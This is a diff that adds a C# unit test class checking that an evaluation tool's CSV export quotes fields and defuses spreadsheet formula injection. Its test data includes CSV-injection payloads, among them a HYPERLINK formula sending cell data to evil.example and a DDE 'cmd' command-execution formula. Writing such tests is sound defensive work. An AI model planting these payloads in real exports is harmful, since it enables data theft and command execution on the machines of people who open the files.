@@ -115,3 +115,82 @@ public class ReportingTests
         Assert.Contains($"<b>{tar.Tar.ToString("0.00%", System.Globalization.CultureInfo.InvariantCulture)}</b>", html);
     }
 }
+
+/// <summary>The CSV files FaceEval writes: RFC 4180 quoting, and no text a spreadsheet would run as a formula.</summary>
+public class CsvTests
+{
+    public static TheoryData<string> HostileNames() => new()
+    {
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
+        "\t=1+1", "\r=1+1", "\n=1+1", "\0=1", "  =1+1", "\u00a0=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201",
+        "a,b", "say \"hi\"", "\"", "two\nlines", "two\r\nlines", "trailing space ", "'already", "plain", "",
+    };
+
+    /// <summary>RFC 4180, read independently of the writer: quoted fields with doubled quotes, any line breaks inside.</summary>
+    internal static List<List<string>> Parse(string text)
+    {
+        var rows = new List<List<string>>();
+        var row = new List<string>();
+        var field = new System.Text.StringBuilder();
+        bool quoted = false, wasQuoted = false;
+        for (int i = 0; i < text.Length; i++)
+        {
+            char c = text[i];
+            if (quoted)
+            {
+                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"') { field.Append('"'); i++; }
+                else if (c == '"') quoted = false;
+                else field.Append(c);
+            }
+            else if (c == '"')
+            {
+                Assert.True(field.Length == 0, $"a quote inside an unquoted field at {i}");
+                quoted = wasQuoted = true;
+            }
+            else if (c == ',') { row.Add(field.ToString()); field.Clear(); wasQuoted = false; }
+            else if (c == '\n' || c == '\r')
+            {
+                if (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n') i++;
+                row.Add(field.ToString()); field.Clear(); wasQuoted = false;
+                rows.Add(row); row = new List<string>();
+            }
+            else
+            {
+                Assert.False(wasQuoted, $"text after a closing quote at {i}");
+                Assert.False(c is '\r' or '\n', "a bare line break inside a field");
+                field.Append(c);
+            }
+        }
+        Assert.False(quoted, "the file ends inside a quoted field");
+        if (field.Length > 0 || row.Count > 0) { row.Add(field.ToString()); rows.Add(row); }
+        return rows;
+    }
+
+    /// <summary>What a spreadsheet could take for a formula: OWASP's characters, their full-width forms, after any blanks.</summary>
+    internal static bool LooksLikeAFormula(string field)
+    {
+        if (field.Length > 0 && field[0] is '\t' or '\r' or '\n' or '\0') return true;
+        string t = field.TrimStart();
+        return t.Length > 0 && t[0] is '=' or '+' or '-' or '@' or '\uff1d' or '\uff0b' or '\uff0d' or '\uff20';
+    }
+
+    [Theory]
+    [MemberData(nameof(HostileNames))]
+    public void RocCsvQuotesEveryModelNameAndDefusesFormulas(string model)
+    {
+        var result = VerificationEvaluator.Evaluate(model, ScoreSet.Create(new[] { 0.9f, 0.8f, 0.3f }, new[] { 0.5f, 0.2f, 0.1f }), folds: 0);
+        var rows = Parse(RocCsv.Text(new[] { result }));
+        Assert.Equal(new[] { "model", "threshold", "far", "tar" }, rows[0]);
+        Assert.Equal(result.Roc.Length + 1, rows.Count);
+        string expected = LooksLikeAFormula(model) ? "'" + model : model;
+        foreach (var row in rows.Skip(1))
+        {
+            Assert.Equal(4, row.Count);
+            Assert.Equal(expected, row[0]);
+            Assert.False(LooksLikeAFormula(row[0]), $"'{row[0]}' could run as a formula");
+            foreach (var number in row.Skip(1))
+                Assert.True(double.TryParse(number, System.Globalization.NumberStyles.Float, System.Globalization.CultureInfo.InvariantCulture, out _), number);
+        }
+    }
+}
+
